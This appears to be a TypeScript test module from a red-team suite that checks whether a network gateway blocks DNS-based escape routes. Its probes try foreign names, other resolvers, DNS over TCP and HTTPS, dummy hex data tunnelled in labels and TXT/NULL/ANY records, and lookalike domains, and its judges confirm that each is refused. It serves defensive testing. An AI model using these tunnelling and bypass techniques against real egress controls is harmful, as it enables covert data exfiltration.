// Attacks by DNS: foreign names, other resolvers, data carried in names or in records. Answers are computed from the name, so
// nothing of a question leaves; what counts is what the answer says and that nobody outside heard of it.
import type { Attack, AttackFinding, Control, Facts } from '../attack.ts';
import { byName, httpRequest, throughProxy } from '../http-text.ts';
import { answered, arrived, held, hole, inWords, refusedInWords, unproven } from '../judge.ts';
import type { Observation, Probe } from '../probe.ts';
import { foreignHost, plainHost, wildApex } from '../redteam-hosts.ts';
import { allowedQuery, dnsQuery, type QueryType, readDnsAnswer } from './dns-query.ts';

/** Not ours, and nobody's: every address is served by the door. */
const otherResolver = '198.51.100.53';
const otherResolver6 = '2001:db8::53';
/** 198.18.0.0/15 and the gateway's own prefix of fd00::/8: addresses that lead nowhere but to the door. */
const synthetic = /^(?:198\.1[89]\.\d+\.\d+|fd[0-9a-f]{2}:[0-9a-f:]+)$/;
const smuggled = `${'a1b2c3d4'.repeat(7)}.${'e5f60718'.repeat(7)}`;

const ask = (hex: string, host = otherResolver): Probe => ({ do: 'datagram', host, port: 53, hex });

/** Over TCP: two bytes of length before the message (RFC 1035 4.2.2). */
function askByTcp(hex: string, host = otherResolver): Probe {
  const message = Buffer.from(hex, 'hex');
  const length = Buffer.alloc(2);
  length.writeUInt16BE(message.length);
  const text = Buffer.concat([length, message]).toString('latin1');
  return { do: 'send', way: { host, port: 53 }, text, quietMs: 200 };
}

function read({ text }: Observation): ReturnType<typeof readDnsAnswer> {
  return readDnsAnswer(/^(?:[0-9a-f]{2})*$/.test(text) ? text : Buffer.from(text, 'latin1').toString('hex').slice(4));
}

const works = (shows: string, ...probes: Probe[]): Control => ({
  shows,
  probes: () => probes,
  fails: (observed) =>
    observed.filter((one) => read(one)?.data.length === 0 || read(one) === null).map(inWords)[0] ?? null,
});

/**
 * Every answer has one of these codes and carries nothing; or, where NXDOMAIN is one of them, an address that is computed from
 * the name and leads to the door alone, which has written the no down and says it there in words (`dns.unknown`).
 */
function judgeCodes(facts: Facts, codes: readonly string[]): AttackFinding {
  if (facts.seen.length > 0) return hole(arrived(facts));
  const said = new Set<string>();
  const record = facts.journal.find(({ verdict }) => verdict === 'refused');
  for (const observation of facts.observed) {
    const answer = read(observation);
    if (answer === null) return unproven(`no answer: ${inWords(observation)}`);
    const other = answer.data.find(
      (text) => record === undefined || !codes.includes('NXDOMAIN') || !synthetic.test(text),
    );
    if (other !== undefined) return hole(`answered with ${other}`);
    if (codes.includes('NXDOMAIN') && answer.code === 'NOERROR') {
      said.add('an address of the door');
      continue;
    }
    if (!codes.includes(answer.code)) return unproven(`answered ${answer.code}`);
    said.add(answer.code);
  }
  return held(
    `${[...said].join(', ')}, no data of others${record === undefined ? '' : `; journal ${record.seq}: ${record.code}`}`,
  );
}

function queryAttack(
  name: string,
  tried: string,
  codes: readonly string[],
  control: Control,
  ...attempts: Probe[]
): Attack {
  return { name, area: 'names', tried, control, attempt: () => attempts, judge: (facts) => judgeCodes(facts, codes) };
}

const typed = (types: readonly QueryType[], host: string): Probe[] => types.map((type) => ask(dnsQuery(host, type)));

const allowedIsAnswered = works('an allowed name is answered there', ask(allowedQuery));

export const nameAttacks: readonly Attack[] = [
  queryAttack(
    'dns-foreign-name',
    'a name that is not allowed',
    ['NXDOMAIN'],
    allowedIsAnswered,
    // A name of its own: one that was asked a moment ago is not written down again.
    ask(dnsQuery(`zero.${foreignHost}`, 'A')),
    ask(dnsQuery(`zero.${foreignHost}`, 'AAAA')),
  ),
  queryAttack(
    'dns-other-resolver',
    'other resolvers, over IPv4 and IPv6',
    ['NXDOMAIN'],
    works('an allowed name is answered there', ask(allowedQuery), askByTcp(allowedQuery, otherResolver6)),
    ask(dnsQuery(`one.${foreignHost}`, 'A'), '192.0.2.53'),
    askByTcp(dnsQuery(`two.${foreignHost}`, 'A'), otherResolver6),
  ),
  queryAttack(
    'dns-by-tcp',
    'a foreign name over TCP',
    ['NXDOMAIN'],
    works('an allowed name is answered over TCP', askByTcp(allowedQuery)),
    askByTcp(dnsQuery(`three.${foreignHost}`, 'A')),
  ),
  queryAttack(
    'dns-tunnel',
    'data in the labels of a foreign name',
    ['NXDOMAIN'],
    allowedIsAnswered,
    ask(dnsQuery(`${smuggled}.${foreignHost}`, 'A')),
    ask(dnsQuery(`${smuggled}.${foreignHost}`, 'MX')),
  ),
  queryAttack(
    'dns-records',
    'data in TXT, NULL and ANY records, also of an allowed name',
    ['REFUSED', 'NOTIMP'],
    allowedIsAnswered,
    ...typed(['TXT', 'NULL', 'ANY'], plainHost),
    ...typed(['TXT', 'NULL', 'ANY'], foreignHost),
  ),
  {
    name: 'dns-tunnel-under-wildcard',
    area: 'names',
    tried: 'data in the labels below an allowed wildcard',
    control: allowedIsAnswered,
    attempt: () => [ask(dnsQuery(`${smuggled}.${wildApex}`, 'A')), ask(dnsQuery(`${smuggled}.${wildApex}`, 'AAAA'))],
    judge(facts) {
      if (facts.seen.length > 0) return hole(arrived(facts));
      const data = facts.observed.flatMap((one) => read(one)?.data ?? ['no answer']);
      const other = data.find((text) => !synthetic.test(text));
      if (other !== undefined) return unproven(`answered ${other}`);
      return held(`answered by computation (${data.join(', ')}): the question goes nowhere`);
    },
  },
  {
    name: 'dns-over-https',
    area: 'names',
    tried: 'DNS over HTTPS to an allowed host',
    control: answered('the same host answers another request', () => [
      { do: 'send', way: byName(plainHost), text: httpRequest(plainHost, '/') },
    ]),
    attempt: () => {
      const message = Buffer.from(dnsQuery(foreignHost, 'TXT'), 'hex');
      const headers = { 'Content-Type': 'application/dns-message', Accept: 'application/dns-message' };
      const body = message.toString('latin1');
      const get = `/dns-query?dns=${message.toString('base64url')}`;
      return [
        {
          do: 'send',
          way: byName(plainHost),
          text: httpRequest(plainHost, '/dns-query', {
            method: 'POST',
            headers: { ...headers, 'Content-Length': String(message.length) },
            body,
          }),
        },
        { do: 'send', way: byName(plainHost), text: httpRequest(plainHost, get, { headers }) },
      ];
    },
    judge: (facts) => refusedInWords(facts, /^policy\.dns-over-https$/),
  },
  {
    name: 'names-like-allowed-ones',
    area: 'names',
    tried: 'names that look like allowed ones, and the apex of a wildcard',
    control: answered('an allowed name is reached the same way', () => [
      { do: 'send', way: throughProxy(plainHost), text: httpRequest(plainHost, '/') },
      { do: 'send', way: throughProxy(`one.${wildApex}`), text: httpRequest(`one.${wildApex}`, '/') },
    ]),
    attempt: () =>
      [wildApex, `x${plainHost}`, `${plainHost}.${foreignHost}`, `evil${wildApex}`].map(
        (host): Probe => ({
          do: 'send',
          way: throughProxy(host),
          text: httpRequest(host, '/'),
        }),
      ),
    judge: (facts) => refusedInWords(facts, /^domain\.not-allowed$/),
  },
];
